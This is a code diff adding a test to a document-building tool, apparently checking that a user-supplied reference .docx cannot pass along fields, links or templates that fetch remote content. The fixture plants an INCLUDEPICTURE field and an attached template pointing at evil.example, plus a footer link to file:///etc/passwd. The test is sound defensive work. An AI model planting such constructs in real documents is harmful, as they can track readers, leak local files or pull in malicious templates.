@@ -396,6 +396,29 @@ def test_word_template_output_still_opens(word_output: dict[str, str], tmp_path:
     assert "Chief Sales Officer at Acme Robotics" in text and "the end" in text
 
 
+def test_reference_document_brings_no_fetching_field_or_link(workspace: Path, outside: Outside) -> None:
+    house = docx.Document()
+    header = house.sections[0].header.paragraphs[0]
+    header._p.append(_xml('<w:fldSimple NS w:instr=" INCLUDEPICTURE &quot;http://evil.example/h.png&quot; '
+                          '\\d "><w:r><w:t>header picture</w:t></w:r></w:fldSimple>'))
+    footer = house.sections[0].footer
+    rid = footer.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
+    footer.paragraphs[0]._p.append(_xml(f'<w:hyperlink NS r:id="{rid}"><w:r><w:t>footer link</w:t></w:r>'
+                                        "</w:hyperlink>"))
+    settings = house.part._settings_part
+    template = settings.relate_to("http://evil.example/t.dotm", REL + "attachedTemplate", is_external=True)
+    settings.element.insert(0, _xml(f'<w:attachedTemplate NS r:id="{template}"/>'))
+    house.save(str(workspace / "house.docx"))
+    result = run("build", "cso", "--doc", "jd", "--format", "docx", "--reference-docx", "house.docx")
+    assert result.exit_code == 0, result.stderr
+    with zipfile.ZipFile(OUT / f"{JD}.docx") as archive:
+        parts = {name: archive.read(name).decode("utf-8") for name in archive.namelist()
+                 if name.endswith((".xml", ".rels"))}
+    everything = "".join(parts.values())
+    assert EVIL not in everything and "file:" not in everything and "INCLUDEPICTURE" not in everything
+    assert "header picture" in everything and "footer link" in everything
+
+
 # --- SARIF --------------------------------------------------------------------------------------
 
 def _sarif_uris(*args: str) -> list[str]:
